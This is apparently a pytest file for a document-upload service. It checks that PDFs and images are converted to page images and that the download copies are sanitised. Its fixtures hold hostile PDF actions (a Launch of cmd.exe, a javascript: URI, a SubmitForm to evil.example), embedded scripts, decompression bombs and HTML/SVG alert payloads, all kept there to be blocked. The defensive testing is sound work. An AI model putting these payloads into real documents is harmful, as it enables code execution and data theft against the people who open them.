"""PDFs and pictures become page images; hostile ones end in a sentence, and no script reaches a download."""

import io
import struct
import time
import zlib
from contextlib import suppress
from pathlib import Path

import pytest
from PIL import Image

from app.core.child import Limits, run
from app.core.errors import Refused
from app.documents.file_types import format_of
from app.documents.formats import IMAGE, PDF
from tests.documents import pdfs

LIMITS = Limits(wall=40, cpu=20, memory_mb=1536)


def opened(content: bytes, folder: Path, format: str = PDF, page_limit: int = 300, limits: Limits = LIMITS) -> dict:
    (folder / "in").write_bytes(content)
    given = {"path": str(folder / "in"), "folder": str(folder), "format": format, "page_limit": page_limit}
    return run("app.documents.pages:pages_of", given, limits)


def png(width: int, height: int) -> bytes:
    """A PNG that declares this size and holds almost nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def picture(kind: str, size: tuple[int, int] = (300, 200), **saved: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#336699").save(out, kind, **saved)
    return out.getvalue()


def test_a_pdf_becomes_images_text_and_a_copy(tmp_path: Path) -> None:
    found = opened(pdfs.a_pdf(["First page", "Second page"]), tmp_path)
    assert [page["text"] for page in found["pages"]] == ["First page", "Second page"]
    assert found["media_type"] == "application/pdf"
    with Image.open(tmp_path / "2.webp") as image:
        assert (image.format, image.width) == ("WEBP", 1400)
        assert (found["pages"][1]["width"], found["pages"][1]["height"]) == image.size
    assert (tmp_path / "download").read_bytes().startswith(b"%PDF")


def test_outline_titles_name_the_pages(tmp_path: Path) -> None:
    outline = [
        b"<</Type/Outlines/First 15 0 R/Last 15 0 R/Count 1>>",
        b"<</Title(The curve)/Parent 14 0 R/Dest[12 0 R/Fit]>>",
    ]
    found = opened(pdfs.a_pdf(["One", "Two"], catalog="/Outlines 14 0 R", extra=outline), tmp_path)
    assert [page["title"] for page in found["pages"]] == ["", "The curve"]


def test_no_script_of_a_pdf_reaches_its_download(tmp_path: Path) -> None:
    found = opened(pdfs.a_pdf_with_script(), tmp_path)
    copy = (tmp_path / "download").read_bytes()
    assert found["pages"][0]["text"] == "Hello there"
    assert b"JavaScript" not in copy
    assert b"/JS" not in copy
    assert b"/AA" not in copy
    again = tmp_path / "again"
    again.mkdir()
    assert opened(copy, again)["pages"][0]["text"] == "Hello there"


@pytest.mark.parametrize(
    ("active", "name"),
    [
        ("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]", b"Launch"),
        (
            "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]",
            b"javascript:",
        ),
        (
            "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>>>]",
            b"SubmitForm",
        ),
    ],
)
def test_no_active_note_reaches_a_download(tmp_path: Path, active: str, name: bytes) -> None:
    content = pdfs.a_pdf(page=active)
    assert name in content
    opened(content, tmp_path)
    assert name not in (tmp_path / "download").read_bytes()


def test_a_link_to_the_web_stays_in_the_download(tmp_path: Path) -> None:
    note = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example/)>>>>]"
    opened(pdfs.a_pdf(page=note), tmp_path)
    assert b"https://a.example/" in (tmp_path / "download").read_bytes()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (pdfs.a_locked_pdf(), "password"),
        (pdfs.a_pdf()[:120], "damaged"),
        (b"%PDF-1.7\n" + bytes(500), "damaged"),
        (pdfs.a_pdf([]), "does not open"),
        (pdfs.a_pdf(kids=10_000), "10,000 pages"),
        (pdfs.a_pdf(["a", "b", "c", "d"]), "4 pages"),
        (pdfs.a_pdf(size="0 0 14400 1"), "size that cannot be shown"),
    ],
    ids=["locked", "cut short", "empty shell", "no pages", "10,000 pages", "over the limit", "a line"],
)
def test_what_cannot_be_taken_is_refused_with_a_reason(tmp_path: Path, content: bytes, words: str) -> None:
    with pytest.raises(Refused) as refused:
        opened(content, tmp_path, page_limit=3)
    assert words in refused.value.reason


def test_a_bomb_of_a_stream_ends_within_its_limits(tmp_path: Path) -> None:
    started = time.monotonic()
    with suppress(Refused):
        assert opened(pdfs.a_bomb(), tmp_path, limits=Limits(wall=30, cpu=15, memory_mb=512))["pages"][0]["text"] == ""
    assert time.monotonic() - started < 40


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_a_picture_becomes_one_page_of_webp(tmp_path: Path, kind: str) -> None:
    found = opened(picture(kind), tmp_path, IMAGE)
    assert len(found["pages"]) == 1
    for name in ("1.webp", "download"):
        with Image.open(tmp_path / name) as image:
            assert (image.format, image.size) == ("WEBP", (300, 200))


def test_what_a_camera_wrote_stays_behind(tmp_path: Path) -> None:
    exif = Image.Exif()
    exif[0x010E] = "home address"
    content = picture("JPEG", exif=exif)
    assert b"home address" in content
    opened(content, tmp_path, IMAGE)
    assert b"home address" not in (tmp_path / "download").read_bytes() + (tmp_path / "1.webp").read_bytes()


def test_a_see_through_picture_stands_on_white(tmp_path: Path) -> None:
    out = io.BytesIO()
    Image.new("RGBA", (40, 40), (0, 0, 0, 0)).save(out, "PNG")
    opened(out.getvalue(), tmp_path, IMAGE)
    with Image.open(tmp_path / "1.webp") as image:
        assert image.convert("RGB").getpixel((5, 5)) == (255, 255, 255)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (png(60_000, 60_000), "too big"),
        (png(8_000, 8_000), "too big"),
        (png(500, 500), "damaged"),
        (picture("JPEG")[:100], "damaged"),
        (b"GIF89a" + bytes(20), "damaged"),
    ],
    ids=["bomb", "large", "cut short png", "cut short jpeg", "empty gif"],
)
def test_a_picture_that_cannot_be_taken_is_refused(tmp_path: Path, content: bytes, words: str) -> None:
    with pytest.raises(Refused) as refused:
        opened(content, tmp_path, IMAGE)
    assert words in refused.value.reason


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "empty"),
        (b"<!DOCTYPE html><script>alert(1)</script>", "web page"),
        (b"<html><svg onload=alert(1)></html>", "web page"),
        (b"PK\x03\x04" + bytes(60), "damaged"),
        (b"{\\rtf1 hello}", "RTF"),
        (b"\x00\x00\x00\x18ftypheic" + bytes(40), "HEIC"),
        (b"\x00\x00\x00\x18ftypM4A " + bytes(40), "sound"),
        (b"\x1a\x45\xdf\xa3" + bytes(20) + b"matroska", "Matroska"),
        (b"MZ" + bytes(100), "Choose a PDF"),
        (b"just words", "Choose a PDF"),
    ],
)
def test_a_type_that_is_not_taken_is_named(tmp_path: Path, content: bytes, words: str) -> None:
    (tmp_path / "report.pdf").write_bytes(content)
    with pytest.raises(Refused) as refused:
        format_of(tmp_path / "report.pdf")
    assert words in refused.value.reason
    assert refused.value.field == "file"


def test_the_type_is_what_it_holds_not_what_it_is_called(tmp_path: Path) -> None:
    (tmp_path / "picture.txt").write_bytes(picture("PNG"))
    (tmp_path / "paper.png").write_bytes(pdfs.a_pdf())
    assert format_of(tmp_path / "picture.txt") == IMAGE
    assert format_of(tmp_path / "paper.png") == PDF
